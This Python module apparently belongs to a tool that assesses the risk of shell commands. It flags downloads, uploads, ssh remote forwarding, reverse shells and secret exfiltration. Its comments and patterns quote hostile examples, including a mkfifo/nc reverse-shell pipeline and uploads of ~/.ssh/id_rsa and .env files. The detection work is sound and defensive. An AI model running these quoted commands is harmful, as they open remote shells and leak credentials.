"""Network: downloads, uploads, remote shells, raw sockets, reverse shells, exfiltration. Inline
interpreter code is read in inline.py."""

from __future__ import annotations

import re


from ccgpt.risk import paths as P
from ccgpt.risk.commands import NET_PIPES, NET_SINKS, SHELLS, option_value, skip_options, short_flags
from ccgpt.risk.rules.inline import check_code_text  # noqa: F401  (re-exported for recurse.py)
from typing import TYPE_CHECKING

from ccgpt.risk.model import Cmd
from ccgpt.risk.rules.catalog import rule

if TYPE_CHECKING:
    from ccgpt.risk.context import Context

NETWORK_SAVE = rule("network-save")
REMOTE_FORWARD = rule("remote-forward")
PERSISTENCE = rule("persistence")
NETWORK_SEND = rule("network-send")
REVERSE_SHELL = rule("reverse-shell")
EXFILTRATION = rule("exfiltration")
NETWORK_REDIRECT = rule("network-redirect")


_SSH_VALUE = frozenset("-p -i -l -o -L -R -D -F -J -b -c -E -e -m -O -Q -S -W -w -B -I".split())


def curl(cmd: Cmd, ctx: Context) -> None:
    flags, _, _ = short_flags(cmd.argv)
    # What the line saved, read as getopt does (`-sSLo F`, `-oF`, `--output=F`, `-O URL` under
    # `--output-dir`): outputfiles.targets is the one reader, and the generic write-target rule
    # (rules/files.named_outputs) checks the same files.
    saved = _written(cmd) - {"-"}
    if saved or flags & {"-O", "--remote-name", "--remote-name-all", "-J", "--output-dir"}:
        ctx.downloads.update(saved)
        ctx.add(NETWORK_SAVE, cmd.span, "downloads to a file")
    elif flags & {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T",
                  "--upload-file", "--json"} or _method(cmd.argv).upper() not in ("", "GET", "HEAD", "OPTIONS"):
        ctx.add(NETWORK_SEND, cmd.span, "sends data to a server")


def _written(cmd: Cmd) -> set[str]:
    from ccgpt.risk.outputfiles import targets

    return {path if path == "-" else P.resolve(path, cmd.cwd) for path, _ in targets(cmd)}


def _method(argv: list[str]) -> str:
    """The request method of `-X DELETE`, `-XDELETE`, `-sXPUT`, `--request=PATCH` (getopt reading)."""
    return option_value(argv, "-X", "--request") or ""


def wget(cmd: Cmd, ctx: Context) -> None:
    if any(x.startswith(("--post-data", "--post-file", "--body-file", "--method")) for x in cmd.argv):
        ctx.add(NETWORK_SEND, cmd.span, "sends data to a server")
    elif "--spider" not in cmd.argv:
        written = _written(cmd)  # `-O F`, `-P DIR URL`, the URL's own name, `-O -` (stdout)
        ctx.downloads.update(p for p in written if p != "-")
        if written != {"-"}:
            ctx.add(NETWORK_SAVE, cmd.span, "downloads to a file")


def netcat(cmd: Cmd, ctx: Context) -> None:
    # openssl's options are single-dash words (-connect): never split them into letters.
    flags = set(cmd.argv[1:]) if cmd.argv[0] == "openssl" else short_flags(cmd.argv)[0]
    if flags & {"-e", "-c", "--exec", "--sh-exec", "--lua-exec"}:
        ctx.add(REVERSE_SHELL, cmd.span, f"{cmd.argv[0]} -e/-c connects a program to the network")
    elif cmd.argv[0] == "socat" and any(x.lower().startswith(("exec:", "system:")) for x in cmd.argv[1:]):
        ctx.add(REVERSE_SHELL, cmd.span, "socat exec:/system: connects a program to the network")
    elif cmd.argv[0] == "openssl" and (len(cmd.argv) < 2 or cmd.argv[1] not in ("s_client", "s_server")):
        from ccgpt.risk.rules.files import write_target

        argv = cmd.argv
        for i, x in enumerate(argv[:-1]):
            if x in ("-out", "-keyout"):
                write_target(cmd, ctx, argv[i + 1], cmd.span)  # `openssl genrsa -out key.pem`
        return
    else:
        ctx.add(NETWORK_SEND, cmd.span, f"{cmd.argv[0]} opens a raw network connection")


def transfer(cmd: Cmd, ctx: Context) -> None:
    ctx.add(NETWORK_SAVE, cmd.span, f"{cmd.argv[0]} copies files over the network")


def ssh(cmd: Cmd, ctx: Context) -> None:
    flags = set(cmd.argv[1:])
    if cmd.argv[0] == "ssh" and flags and (flags <= {"-V", "-v"} or "-G" in flags or "-Q" in flags):
        return  # `ssh -V` prints the version, `ssh -G host` the configuration, `ssh -Q cipher` a list
    if _remote_forward(cmd.argv):
        ctx.add(REMOTE_FORWARD, cmd.span)
    i = skip_options(cmd.argv, 1, _SSH_VALUE)
    if i + 1 < len(cmd.argv):
        ctx.nested(" ".join(cmd.argv[i + 1:]), cmd.span)
    ctx.add(NETWORK_SAVE, cmd.span, "opens an ssh session on another machine")


def _remote_forward(argv: list[str]) -> bool:
    """`-R PORT:HOST:PORT`, `-fNR …` (a cluster), `-o RemoteForward=…`."""
    for k, a in enumerate(argv[1:], 1):
        if a.startswith("-") and not a.startswith("--"):
            for ch in a[1:]:
                if ch == "R":
                    return True
                if "-" + ch in _SSH_VALUE:
                    break
        if a.lower().startswith(("remoteforward", "-oremoteforward")) or (argv[k - 1] == "-o" and a.lower().startswith("remoteforward")):
            return True
    return False


def copy_id(cmd: Cmd, ctx: Context) -> None:
    ctx.add(PERSISTENCE, cmd.span, "ssh-copy-id installs a key in a remote authorized_keys: it grants logins there")


def exfiltration(cmd: Cmd, ctx: Context) -> None:
    """Generic: a secret flowing into a network sink."""
    if not cmd.argv or cmd.argv[0] not in NET_SINKS:
        return
    if cmd.argv[0] == "openssl" and cmd.argv[1:2] not in (["s_client"], ["s_server"]):
        return  # `openssl x509 -in cert.pem`, `openssl genrsa -out key.pem`: local crypto, no network
    secret = cmd.secret_args or (cmd.stdin is not None and cmd.stdin.secret)
    if not secret:
        argv = cmd.argv
        for i, x in enumerate(argv[1:], 1):
            if "://" in x or _not_data(argv[0], argv[i - 1], x):
                continue
            y = x.split("=@", 1)[1] if "=@" in x else x.lstrip("@<")
            if cmd.argv[0] in ("scp", "rsync", "sftp") and re.match(r"^[\w.@-]+:", y):
                continue
            # a value glued to its option: `-d@.env`, `-T.env`, `--post-file=.env`
            glued = x.split("@", 1)[1] if x.startswith("-") and "@" in x else (
                x.split("=", 1)[1] if x.startswith("--") and "=" in x else (x[2:] if x.startswith("-") and not x.startswith("--") else ""))
            if P.secret_path(y) or P.secret_path(glued):
                secret = True
                break
    if secret:
        ctx.add(EXFILTRATION, cmd.span)


# Options of the copy tools whose value is how to connect (an identity file, a config, the
# remote shell command), not data sent: `scp -i ~/.ssh/key`, `rsync -e "ssh -i ~/.ssh/key"`.
_CONNECT = {"ssh": "-i -F -o", "scp": "-i -F -o", "sftp": "-i -F -o", "rsync": "-e --rsh"}


def _not_data(prog: str, prev: str, word: str) -> bool:
    """Whether `word` is the value of a connection option (separate, glued or `--opt=`)."""
    opts = _CONNECT.get(prog, "").split()
    if not opts:
        return False
    if prev in opts or word.split("=", 1)[0] in opts and "=" in word:
        return True
    if any(word.startswith(o) and len(word) > len(o) for o in opts if len(o) == 2):
        return True  # glued: `-i~/.ssh/key`, `-e'ssh -i key'`
    letters = {o[1] for o in opts if len(o) == 2}
    return prev.startswith("-") and not prev.startswith("--") and prev[-1:] in letters  # `-avze "ssh …"`


# Programs that upload local files they are given (cloud storage, gists, file drops): a secret
# among their arguments leaves the machine (`aws s3 cp ~/.ssh/id_rsa s3://b/`, `gh gist create .env`).
_UPLOADERS = frozenset("aws gsutil gcloud az azcopy gh glab s3cmd mc b2 rclone croc wormhole ffsend transfer "
                       "dropbox_uploader".split())


def uploads(cmd: Cmd, ctx: Context) -> None:
    """Generic (so programs without rules of their own stay `unknown-command`)."""
    if cmd.argv and cmd.argv[0] in _UPLOADERS and any(P.secret_path(a.split("=", 1)[-1]) for a in cmd.argv[1:]):
        ctx.add(EXFILTRATION, cmd.span, f"{cmd.argv[0]} uploads a secret file")


def serves(cmd: Cmd, ctx: Context) -> None:
    """`python3 -m http.server [-d DIR]`: every file under DIR (or here) is readable from the
    network; serving secrets, the root or the home directory hands them out."""
    argv = cmd.argv
    if "-m" not in argv or argv[argv.index("-m") + 1:argv.index("-m") + 2] != ["http.server"]:
        return
    where = next((argv[k + 1] for k, a in enumerate(argv[:-1]) if a in ("-d", "--directory")), None)
    where = next((a.split("=", 1)[1] for a in argv if a.startswith("--directory=")), where) or "."
    p = P.resolve(where, cmd.cwd)
    if P.secret_path(p) or P.secret_path(p + "/x") or P.kind(p, cmd.cwd) in (P.ROOT, P.HOME, P.SYSTEM):
        ctx.add(EXFILTRATION, cmd.span, f"serves {p} to the network")


def shell_socket(cmd: Cmd, ctx: Context) -> None:
    """Generic: a shell whose input or output is a /dev/tcp socket (or a zsh `ztcp` one)."""
    if cmd.argv and cmd.argv[0] in SHELLS and ("/dev/tcp/" in ctx.line or "/dev/udp/" in ctx.line):
        ctx.add(REVERSE_SHELL, cmd.span, "a shell wired to a /dev/tcp socket")
    elif cmd.argv and cmd.argv[0] in SHELLS and _ZTCP in ctx.files and any("&" in r.op for r in cmd.redirects):
        ctx.add(REVERSE_SHELL, cmd.span, "a shell wired to the socket ztcp opened")


_ZTCP = "\x00ztcp"


def ztcp(cmd: Cmd, ctx: Context) -> None:
    """zsh's `ztcp HOST PORT` / `zsocket` open a socket on a new fd: the zsh spelling of
    `exec 3<>/dev/tcp/HOST/PORT`."""
    flags = short_flags(cmd.argv)[0]
    if len(cmd.argv) > 1 and not flags & {"-c", "-L"} or flags & {"-l", "-a"}:
        ctx.files[_ZTCP] = ""
        ctx.add(NETWORK_REDIRECT, cmd.span, f"{cmd.argv[0]} opens a raw network socket in the shell")


def zmodload(cmd: Cmd, ctx: Context) -> None:
    """Loading a zsh module changes nothing by itself; what the module's commands do is read
    where they are used."""


PROGRAMS = {"curl": [curl], "wget": [wget], "nc": [netcat], "ncat": [netcat], "netcat": [netcat],
            "socat": [netcat], "telnet": [netcat], "openssl": [netcat], "cryptcat": [netcat],
            "scp": [transfer], "sftp": [transfer], "ftp": [transfer], "aria2c": [transfer],
            "ssh": [ssh], "mosh": [ssh], "ztcp": [ztcp], "zsocket": [ztcp], "zmodload": [zmodload],
            "ssh-copy-id": [copy_id], "python": [serves]}
GENERIC = [exfiltration, shell_socket, uploads]


def reverse_pipeline(cmds: list[Cmd], span: tuple[int, int], ctx: Context) -> None:
    """A shell and a raw network pipe in one pipeline: `mkfifo f; cat f | sh -i | nc h 4444 > f`."""
    if len(cmds) < 2:
        return
    progs = {c.argv[0] for c in cmds if c.argv and not (c.argv[0] == "openssl" and c.argv[1:2] != ["s_client"])}
    if progs & SHELLS and progs & (NET_PIPES | {"telnet"}):
        ctx.add(REVERSE_SHELL, span)


PIPELINES = [reverse_pipeline]
